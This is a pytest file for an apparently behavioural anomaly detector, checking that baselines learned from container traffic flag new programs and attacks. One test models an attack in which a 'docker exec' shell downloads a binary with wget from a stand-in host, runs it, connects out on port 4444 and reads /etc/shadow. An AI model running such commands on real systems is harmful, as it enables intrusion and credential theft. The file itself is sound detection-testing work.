"""Learning that the clock ends: what every newcomer sees first."""

from collections.abc import Iterable
from datetime import UTC, datetime
from itertools import chain

import pytest

from config.schema import Settings
from models.finding import Finding
from probes.event import Event, Process
from tests.models.scenarios import mix
from tests.models.scenarios.attacks import ACTS
from tests.models.world import SECOND, START, Feed, World, proc


def learned(seconds: float, seed: int = 1, budget: float = 1.0) -> tuple[Feed, World]:
    """Baselines after that many seconds of the mix, with its daily job once, near the end."""
    learn, models = {"max": f"{int(seconds)}s"}, {"false_alerts_per_week": budget}
    world, feed = World(), Feed(Settings.model_validate({"learn": learn, "models": models}))
    third = seconds * 0.7
    feed.give(
        chain(
            mix.start(world, 0),
            mix.traffic(world, 0.5, third, seed, load=2.0),
            mix.daily(world, third, "2026-11-23"),
            mix.traffic(world, third + 0.5, seconds + 1, seed + 1, load=2.0),
        )
    )
    return feed, world


def acts_told(feed: Feed, world: World, begin: float, gap: float) -> dict[str, list[Finding]]:
    told = {}
    for i, (name, _, act) in enumerate(ACTS):
        world.at(begin + i * gap)
        made = act(world)
        events: Iterable[Event] = [made] if isinstance(made, Event) else made
        told[name] = feed.give(events)
    return told


@pytest.mark.parametrize("seconds", [60, 900])
@pytest.mark.parametrize("seed", [1, 20, 300])
def test_normal_traffic_after_short_learning_raises_nothing(seconds: int, seed: int):
    feed, world = learned(seconds, seed)
    assert "forced" == feed.baselines.summary(world.workload)["mode"]

    found = feed.give(
        chain(
            mix.traffic(world, seconds + 2, seconds * 2, seed + 2, load=1.0),
            mix.daily(world, seconds * 2, "2026-11-24"),
            mix.traffic(world, seconds * 2 + 1, seconds * 3, seed + 3, load=6.0),
        )
    )

    assert [] == [f.what for f in found]


@pytest.mark.parametrize("seconds", [60, 900])
def test_what_services_first_do_later_raises_nothing(seconds: int):
    feed, world = learned(seconds)

    found = feed.give(mix.later(world, seconds * 2))

    assert [] == [f.what for f in found]


@pytest.mark.parametrize("seconds", [60, 900])
def test_every_act_of_an_attack_is_told_and_named(seconds: int):
    feed, world = learned(seconds)

    told = acts_told(feed, world, seconds + 5, seconds / 30)

    named = {name: any(word in f.what + f.value for f in told[name]) for name, word, _ in ACTS}
    assert [] == [name for name, ok in named.items() if not ok]


@pytest.mark.parametrize("act", ACTS, ids=lambda act: act[0])
def test_one_act_after_a_minute_of_learning_is_told(act):
    feed, world = learned(60)
    _, word, do = act

    made = do(world.at(100))
    found = feed.give([made] if isinstance(made, Event) else made)

    assert any(word in f.what + f.value for f in found), [f.what for f in found]


def test_forced_learning_says_so():
    feed, world = learned(60)

    (finding,) = feed.give([world.at(70).ran("/usr/bin/wget", by=mix.WORKER)])

    assert "forced" == finding.mode
    assert "(forced: evidence 0 %)" in finding.why
    assert finding.expected_per_week is not None and finding.expected_per_week <= finding.budget


def test_a_deviation_is_not_learned():
    """Repeating an attack does not make it normal."""
    feed, world = learned(60)

    found = [feed.give([world.at(70 + i).ran("/usr/bin/wget", by=mix.WORKER)]) for i in range(50)]

    assert 50 == sum(map(len, found))
    (row,) = feed.baselines.describe(world.workload)["quarantine"]
    assert 50 == row["count"]


def test_a_tiny_web_server_of_one_binary_and_an_attack_by_docker_exec():
    """BusyBox: every program is /bin/busybox. A minute of a few requests, then the five acts of the issue."""
    world, feed = World("tiny"), Feed(max="60s")
    busybox = "/bin/busybox"
    httpd = Process(50, 1, 0, "httpd", busybox, ("httpd", "-f", "-h", "/www"))
    feed.give([world.at(0).ran_as(httpd, first=True), world.listened(httpd, "0.0.0.0:80")])
    for t in range(1, 70, 4):
        quiet = [world.at(t).accepted(httpd, "172.17.0.1", 40_000 + t, 80), world.read(httpd, "/www/index.html")]
        assert [] == feed.give(quiet)

    shell = Process(60, 7, 0, "sh", busybox, ("sh", "-c", "wget -O /tmp/x http://172.17.0.9/x"), entered="docker exec")
    wget = Process(61, 8, 60, "wget", busybox, ("wget", "-O", "/tmp/x", "http://172.17.0.9/x"), parent=shell)
    dropped = Process(62, 9, 60, "x", "/tmp/x", ("/tmp/x",), parent=shell)
    acts = (
        world.at(80).ran_as(shell),
        world.at(81).ran_as(wget),
        world.at(82).connected(wget, "172.17.0.9", 80),
        world.at(83).wrote(wget, "/tmp/x"),
        world.at(84).changed(shell, "chmod", "/tmp/x", mode=0o755),
        world.at(85).ran_as(dropped),
        world.at(86).connected(dropped, "172.17.0.9", 4444),
        world.at(87).read(httpd, "/etc/shadow"),
    )
    told = [[f.what for f in feed.give([act])] for act in acts]
    calm = [world.at(90 + i).accepted(httpd, f"10.9.{i}.1", 50_000 + i, 80) for i in range(20)]

    assert all(told), told
    assert "New program in tiny: /bin/busybox wget" == told[1][0]
    assert [] == feed.give(calm)


def test_a_program_that_was_told_does_not_become_known_by_what_else_it_does():
    feed, world = learned(60)
    wget = proc("/usr/bin/wget", "x", parent=mix.WORKER)

    first = feed.give([world.at(70).ran_as(wget)])
    feed.give(
        [
            world.joined(wget, "/var/run/nscd/socket"),
            world.read(wget, "/etc/ld.so.cache"),
            world.wrote(wget, "/dev/null"),
        ]
    )
    again = feed.give([world.at(80).ran_as(wget)])

    assert [f.what for f in first] == [f.what for f in again] == ["New program in shop/web: /usr/bin/wget"]


@pytest.mark.parametrize("longest", ["60s", None])
def test_until_ends_learning_then_and_not_before(longest: str | None) -> None:
    """Whatever `max` says."""
    end = datetime.fromtimestamp(START // SECOND + 300, UTC).isoformat()
    settings = Settings.model_validate({"learn": {"until": end, **({"max": longest} if longest else {})}})
    world, feed = World(), Feed(settings)
    worker = proc("/usr/bin/python3", "/app/worker.py")

    def at(second: int) -> str:
        feed.give([world.at(second).read(worker, "/data/x")])
        return str(feed.baselines._all[world.workload].learning.mode)

    assert ["learning", "learning", "forced"] == [at(0), at(299), at(301)]


def test_a_moment_without_its_zone_is_refused() -> None:
    with pytest.raises(ValueError, match="with its zone"):
        Settings.model_validate({"learn": {"until": "2026-12-01T08:00:00"}})
